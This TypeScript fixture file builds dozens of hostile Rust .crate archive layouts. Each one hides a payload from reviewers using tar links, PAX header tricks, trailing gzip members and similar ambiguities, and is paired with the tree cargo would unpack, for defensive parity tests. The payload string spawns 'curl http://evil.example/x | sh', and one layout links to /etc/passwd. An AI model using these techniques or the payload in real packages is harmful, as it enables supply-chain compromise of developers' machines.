/**
 * The hostile archive layouts of issue 10, built byte by byte, each with the tree cargo 1.95 leaves
 * in its registry cache (read from tar-rs 0.4.45 and flate2, confirmed by `npm run verify:archives`,
 * which unpacks every layout with the real cargo). Shared by test/archive-parity.test.ts and
 * bench/verify-archives.mjs so the test and the differential check cannot drift apart.
 */
import { gzipSync } from 'node:zlib';
import { endBlocks, gnuLongName, paxEntry, paxRecords, rawCrate, tarEntry } from './tarball.js';

export const NAME = 'demo';
export const VERSION = '1.0.0';
const TOP = `${NAME}-${VERSION}`;
export const MANIFEST = `[package]\nname = "${NAME}"\nversion = "${VERSION}"\nedition = "2021"\n`;
/** What an attacker wants built: visible to cargo only. */
export const PAYLOAD = 'pub fn run() { std::process::Command::new("sh").arg("-c").arg("curl http://evil.example/x | sh").spawn().unwrap(); }\n';
/** What the attacker wants a reviewer to read instead. */
export const DECOY = 'pub fn add(a: u32, b: u32) -> u32 { a + b }\n';

export interface Layout {
  id: string;
  what: string;
  /** The `.crate` bytes exactly as published. */
  bytes: () => Buffer;
  /** cargo's tree (path → content), or the refusal message cratefence must give. */
  expect: { files: Record<string, string> } | { refuse: RegExp };
}

const manifest = () => tarEntry({ name: `${TOP}/Cargo.toml` }, MANIFEST);
const file = (rel: string, body: string, type = '0') => tarEntry({ name: `${TOP}/${rel}`, type }, body);
const link = (rel: string, target: string, type: '1' | '2' = '2') => tarEntry({ name: `${TOP}/${rel}`, type, linkname: target, size: 0 });
const gz = (...parts: Buffer[]) => gzipSync(Buffer.concat(parts));
const tree = (extra: Record<string, string> = {}) => ({ files: { 'Cargo.toml': MANIFEST, 'src/lib.rs': PAYLOAD, ...extra } });
const crate = (...parts: Buffer[]) => gz(manifest(), ...parts, endBlocks());
const refuse = (re: RegExp) => ({ refuse: re });

export const LAYOUTS: Layout[] = [
  {
    id: 'honest',
    what: 'regular files only, as cargo package writes them (the control)',
    bytes: () => gz(rawCrate(NAME, VERSION, PAYLOAD), endBlocks()),
    expect: tree(),
  },
  {
    id: 'honest-long-name',
    what: 'a path over 100 bytes, written as tar-rs writes it (GNU long name, truncated header name): not ambiguous',
    bytes: () => {
      const long = `${TOP}/tests/${'fixtures/'.repeat(12)}case.rs`;
      return gz(rawCrate(NAME, VERSION, PAYLOAD), gnuLongName(long), tarEntry({ name: long.slice(0, 100) }, DECOY), endBlocks());
    },
    expect: tree({ [`tests/${'fixtures/'.repeat(12)}case.rs`]: DECOY }),
  },
  {
    id: 'honest-pax-metadata',
    what: 'PAX headers with only records no reader takes content from (times as GNU tar and Python tarfile write them, owners, comment, charset, xattrs, an ACL), and a global header with a comment: not ambiguous',
    bytes: () =>
      crate(
        paxEntry([['mtime', '1796413964.301353746'], ['atime', '1796413964.713353746'], ['ctime', '1796413964.301353746']], 'x', `${TOP}/src/PaxHeaders/lib.rs`),
        file('src/lib.rs', PAYLOAD),
        paxEntry([['comment', 'd6cd1e2bd19e03a81132a23b2025920577f84e37']], 'g', `${TOP}/pax_global_header`),
        paxEntry([['mtime', '1796413964.3013537'], ['uid', '1000'], ['gid', '1000'], ['uname', 'build bot'], ['gname', 'users'], ['charset', 'ISO-IR 10646 2000 UTF-8'], ['SCHILY.xattr.user.note', 'x'], ['LIBARCHIVE.xattr.user.note', 'eA'], ['SCHILY.acl.access', 'user::rw-,group::r--,other::r--']]),
        file('src/a.rs', DECOY),
      ),
    expect: tree({ 'src/a.rs': DECOY }),
  },
  {
    id: 'symlink-then-file',
    what: 'src/lib.rs is a symbolic link to the decoy, then a regular file with the payload',
    bytes: () => gz(manifest(), file('src/decoy.rs', DECOY), link('src/lib.rs', 'decoy.rs'), file('src/lib.rs', PAYLOAD), endBlocks()),
    expect: tree({ 'src/decoy.rs': DECOY }),
  },
  {
    id: 'hardlink-then-file',
    what: 'src/lib.rs is a hard link to the decoy, then a regular file with the payload',
    bytes: () => gz(manifest(), file('src/decoy.rs', DECOY), link('src/lib.rs', `${TOP}/src/decoy.rs`, '1'), file('src/lib.rs', PAYLOAD), endBlocks()),
    expect: tree({ 'src/decoy.rs': DECOY }),
  },
  {
    id: 'link-chain-before-targets',
    what: 'src/lib.rs → a.rs → b.rs, links listed before the file they end at',
    bytes: () => gz(manifest(), link('src/lib.rs', 'a.rs'), link('src/a.rs', 'b.rs'), file('src/b.rs', PAYLOAD), endBlocks()),
    expect: tree({ 'src/a.rs': PAYLOAD, 'src/b.rs': PAYLOAD }),
  },
  {
    id: 'entries-after-end-blocks',
    what: 'the payload, the two zero blocks, then a decoy src/lib.rs',
    bytes: () => gz(manifest(), file('src/lib.rs', PAYLOAD), endBlocks(), file('src/lib.rs', DECOY), endBlocks()),
    expect: tree(),
  },
  {
    id: 'entries-after-one-zero-block',
    what: 'the payload, a single zero block, then a decoy src/lib.rs',
    bytes: () => gz(manifest(), file('src/lib.rs', PAYLOAD), endBlocks(1), file('src/lib.rs', DECOY), endBlocks()),
    expect: tree(),
  },
  {
    id: 'gzip-members-with-end',
    what: 'two gzip members: the payload crate with its end blocks, then a decoy src/lib.rs',
    bytes: () => Buffer.concat([gz(manifest(), file('src/lib.rs', PAYLOAD), endBlocks()), gz(file('src/lib.rs', DECOY), endBlocks())]),
    expect: tree(),
  },
  {
    id: 'gzip-members-without-end',
    what: 'two gzip members: the payload crate without end blocks, then a decoy src/lib.rs and the end blocks',
    bytes: () => Buffer.concat([gz(manifest(), file('src/lib.rs', PAYLOAD)), gz(file('src/lib.rs', DECOY), endBlocks())]),
    expect: tree(),
  },
  {
    id: 'directory-with-data',
    what: 'the payload, then a folder entry whose size covers a hidden decoy src/lib.rs',
    bytes: () => {
      const hidden = file('src/lib.rs', DECOY);
      return gz(manifest(), file('src/lib.rs', PAYLOAD), tarEntry({ name: `${TOP}/data/`, type: '5', size: hidden.length }, hidden), endBlocks());
    },
    expect: tree(),
  },
  {
    id: 'pax-two-paths',
    what: 'a decoy src/lib.rs, then an entry whose PAX header says path=src/lib.rs then path=src/unused.rs',
    bytes: () => gz(manifest(), file('src/lib.rs', DECOY), paxEntry([['path', `${TOP}/src/lib.rs`], ['path', `${TOP}/src/unused.rs`]]), file('src/unused.rs', PAYLOAD), endBlocks()),
    expect: tree(),
  },
  {
    id: 'pax-two-sizes',
    what: 'src/lib.rs whose PAX header gives size twice: the payload length first, then 0',
    bytes: () => gz(manifest(), paxEntry([['size', String(PAYLOAD.length)], ['size', '0']]), tarEntry({ name: `${TOP}/src/lib.rs`, size: 0 }, PAYLOAD), endBlocks()),
    expect: tree(),
  },
  {
    id: 'gnu-long-name-and-pax-path',
    what: 'a decoy src/lib.rs, then an entry with a GNU long name src/lib.rs and a PAX path src/unused.rs',
    bytes: () => gz(manifest(), file('src/lib.rs', DECOY), gnuLongName(`${TOP}/src/lib.rs`), paxEntry([['path', `${TOP}/src/unused.rs`]]), file('src/unused.rs', PAYLOAD), endBlocks()),
    expect: tree(),
  },
  {
    id: 'pax-global-path',
    what: 'a decoy src/lib.rs, a PAX global header with path=src/unused.rs, then the payload src/lib.rs',
    bytes: () => gz(manifest(), file('src/lib.rs', DECOY), paxEntry([['path', `${TOP}/src/unused.rs`]], 'g', `${TOP}/pax_global_header`), file('src/lib.rs', PAYLOAD), endBlocks()),
    expect: tree(),
  },
  {
    id: 'typeflag-N',
    what: 'a decoy src/lib.rs, then the payload src/lib.rs with typeflag N (old GNU)',
    bytes: () => gz(manifest(), file('src/lib.rs', DECOY), file('src/lib.rs', PAYLOAD, 'N'), endBlocks()),
    expect: tree(),
  },
  {
    id: 'ustar-odd-version-prefix',
    what: 'a decoy src/lib.rs, then the payload in a ustar header with version "01" and a prefix field',
    bytes: () =>
      gz(manifest(), file('src/lib.rs', DECOY), tarEntry({ name: `${TOP}/src/lib.rs`, format: { magic: 'ustar\0', version: '01' }, prefix: `${TOP}/hidden` }, PAYLOAD), endBlocks()),
    expect: tree(),
  },
  {
    id: 'symlinked-folder-write-through',
    what: 'a decoy src/lib.rs, a link tests → src, then tests/lib.rs with the payload (lands in src/lib.rs)',
    bytes: () => gz(manifest(), file('src/lib.rs', DECOY), link('tests', 'src'), file('tests/lib.rs', PAYLOAD), endBlocks()),
    expect: tree(),
  },
  {
    id: 'trailing-bytes',
    what: 'an honest crate followed by bytes that are not gzip',
    bytes: () => Buffer.concat([gz(rawCrate(NAME, VERSION, PAYLOAD), endBlocks()), Buffer.from('\0\0 appended by a mirror\n')]),
    expect: tree(),
  },
  // Subtleties of the unpack that the reader must replay exactly (cargo reads them all).
  {
    id: 'hardlink-keeps-old-content',
    what: 'src/lib.rs is a hard link to a.rs holding the payload; a.rs is then replaced by the decoy',
    bytes: () => crate(file('src/a.rs', PAYLOAD), link('src/lib.rs', `${TOP}/src/a.rs`, '1'), file('src/a.rs', DECOY)),
    expect: tree({ 'src/a.rs': DECOY }),
  },
  {
    id: 'hardlink-to-symlink',
    what: 'src/y.rs is a hard link to the symbolic link src/x.rs → lib.rs (Linux links the link itself)',
    bytes: () => crate(file('src/lib.rs', PAYLOAD), link('src/x.rs', 'lib.rs'), link('src/y.rs', `${TOP}/src/x.rs`, '1')),
    expect: tree({ 'src/x.rs': PAYLOAD, 'src/y.rs': PAYLOAD }),
  },
  {
    id: 'symlink-over-symlink-and-file',
    what: 'src/lib.rs: the decoy file, then a link to decoy.rs, then a link to pay.rs',
    bytes: () => crate(file('src/decoy.rs', DECOY), file('src/pay.rs', PAYLOAD), file('src/lib.rs', DECOY), link('src/lib.rs', 'decoy.rs'), link('src/lib.rs', 'pay.rs')),
    expect: tree({ 'src/decoy.rs': DECOY, 'src/pay.rs': PAYLOAD }),
  },
  {
    id: 'dot-and-double-slash',
    what: 'the payload at demo-1.0.0/./src//lib.rs',
    bytes: () => crate(tarEntry({ name: `${TOP}/./src//lib.rs` }, PAYLOAD)),
    expect: tree(),
  },
  {
    id: 'cargo-ok-entry',
    what: 'the archive ships its own .cargo-ok marker (cargo skips it)',
    bytes: () => crate(file('src/lib.rs', PAYLOAD), file('.cargo-ok', '{"v":1}')),
    expect: tree(),
  },
  {
    id: 'typeflag-7',
    what: 'a decoy src/lib.rs, then the payload as a contiguous file (typeflag 7)',
    bytes: () => crate(file('src/lib.rs', DECOY), file('src/lib.rs', PAYLOAD, '7')),
    expect: tree(),
  },
  {
    id: 'gnu-file-with-slash-and-data',
    what: 'the payload, then a GNU regular-file entry named data/ (a folder to tar-rs) whose data hides a decoy src/lib.rs',
    bytes: () => {
      const hidden = file('src/lib.rs', DECOY);
      return crate(file('src/lib.rs', PAYLOAD), tarEntry({ name: `${TOP}/data/`, size: hidden.length }, hidden));
    },
    expect: tree(),
  },
  {
    id: 'pax-in-old-header',
    what: 'the payload, then a PAX header without ustar magic (cargo ignores it) renaming a decoy other.rs to src/lib.rs',
    bytes: () => crate(file('src/lib.rs', PAYLOAD), tarEntry({ name: `${TOP}/PaxHeaders/x`, type: 'x', format: 'old' }, paxRecords([['path', `${TOP}/src/lib.rs`]])), file('src/other.rs', DECOY)),
    expect: tree({ 'src/other.rs': DECOY }),
  },
  {
    id: 'pax-malformed-record',
    what: 'a decoy src/lib.rs, then an entry whose PAX header has a malformed record, path=src/lib.rs and size=0 (cargo takes the path but not the size)',
    bytes: () =>
      crate(file('src/lib.rs', DECOY), tarEntry({ name: `${TOP}/PaxHeaders/x`, type: 'x', format: 'ustar' }, Buffer.concat([Buffer.from('9 bogus\n'), paxRecords([['path', `${TOP}/src/lib.rs`], ['size', '0']])])), file('src/other.rs', PAYLOAD)),
    expect: tree(),
  },
  // Records that look like metadata but are laid out or valued so that readers may disagree.
  {
    id: 'pax-path-after-blank-line',
    what: 'the payload src/lib.rs, whose PAX header holds mtime, an empty line (where tar-rs stops reading records) and path=src/other.rs',
    bytes: () => crate(tarEntry({ name: `${TOP}/PaxHeaders/x`, type: 'x', format: 'ustar' }, Buffer.concat([paxRecords([['mtime', '1']]), Buffer.from('\n'), paxRecords([['path', `${TOP}/src/other.rs`]])])), file('src/lib.rs', PAYLOAD)),
    expect: tree(),
  },
  {
    id: 'pax-mtime-malformed',
    what: 'the payload src/lib.rs with a PAX mtime that is not a number (readers may reject the entry)',
    bytes: () => crate(paxEntry([['mtime', 'yesterday']]), file('src/lib.rs', PAYLOAD)),
    expect: tree(),
  },
  {
    id: 'pax-hdrcharset-binary',
    what: 'the payload src/lib.rs with hdrcharset=BINARY (libarchive then decodes names differently)',
    bytes: () => crate(paxEntry([['hdrcharset', 'BINARY'], ['mtime', '1']]), file('src/lib.rs', PAYLOAD)),
    expect: tree(),
  },
  {
    id: 'pax-gnu-sparse-name',
    what: 'the payload src/lib.rs with GNU.sparse.name=src/other.rs (GNU tar renames sparse members by it)',
    bytes: () => crate(paxEntry([['GNU.sparse.name', `${TOP}/src/other.rs`], ['mtime', '1']]), file('src/lib.rs', PAYLOAD)),
    expect: tree(),
  },
  // Refused: cargo's unpack fails, or its result cannot be analysed exactly.
  { id: 'two-pax-headers', what: 'two PAX headers for one entry', bytes: () => crate(paxEntry([['path', `${TOP}/a`]]), paxEntry([['path', `${TOP}/b`]]), file('c', 'x')), expect: refuse(/two pax extensions/) },
  { id: 'orphan-pax-header', what: 'a PAX header with no entry after it', bytes: () => crate(paxEntry([['path', `${TOP}/a`]])), expect: refuse(/extension entries describe/) },
  { id: 'file-over-folder', what: 'a file entry where a folder exists', bytes: () => crate(file('src/lib.rs', PAYLOAD), tarEntry({ name: `${TOP}/src`, size: 0 })), expect: refuse(/folder already exists/) },
  { id: 'folder-over-symlink', what: 'a folder entry where a link to a folder exists', bytes: () => crate(file('src/lib.rs', PAYLOAD), link('tests', 'src'), tarEntry({ name: `${TOP}/tests/`, type: '5', size: 0 })), expect: refuse(/folder where a link already exists/) },
  { id: 'hardlink-missing-target', what: 'a hard link to a file not yet unpacked', bytes: () => crate(link('src/lib.rs', `${TOP}/src/later.rs`, '1'), file('src/later.rs', PAYLOAD)), expect: refuse(/does not exist yet/) },
  { id: 'write-through-link-out', what: 'a write through a link to the parent of the crate folder', bytes: () => crate(link('up', '..'), tarEntry({ name: `${TOP}/up/${TOP}/src/lib.rs` }, PAYLOAD)), expect: refuse(/outside the crate folder/) },
  { id: 'write-through-dangling-link', what: 'a write through a link that points to nothing', bytes: () => crate(link('d', 'nowhere'), file('d/lib.rs', PAYLOAD)), expect: refuse(/points to nothing/) },
  { id: 'absolute-symlink', what: 'a link to /etc/passwd (cargo creates it; a build would read the host file)', bytes: () => crate(file('src/lib.rs', PAYLOAD), link('src/data.txt', '/etc/passwd')), expect: refuse(/points outside the crate/) },
  { id: 'leading-dot-slash', what: 'entries named ./demo-1.0.0/...', bytes: () => gz(tarEntry({ name: `./${TOP}/Cargo.toml` }, MANIFEST), endBlocks()), expect: refuse(/not under the crate's top folder/) },
  { id: 'git-archive-global-header', what: 'a tarball as git archive writes it (a pax_global_header first)', bytes: () => gz(paxEntry([['comment', '0123456789abcdef']], 'g', 'pax_global_header'), rawCrate(NAME, VERSION, PAYLOAD), endBlocks()), expect: refuse(/PAX global header named "pax_global_header"/) },
  { id: 'bad-checksum', what: 'a header whose checksum does not match', bytes: () => crate(Buffer.from(file('src/lib.rs', PAYLOAD)).fill(0x41, 200, 201)), expect: refuse(/checksum mismatch/) },
  { id: 'gnu-sparse', what: 'a GNU sparse file (typeflag S)', bytes: () => crate(file('src/lib.rs', PAYLOAD, 'S')), expect: refuse(/sparse/) },
  {
    id: 'plain-tar-named-crate',
    what: 'an uncompressed tar named .crate',
    bytes: () => Buffer.concat([rawCrate(NAME, VERSION, PAYLOAD), endBlocks()]),
    expect: { refuse: /not gzip-compressed/ },
  },
];
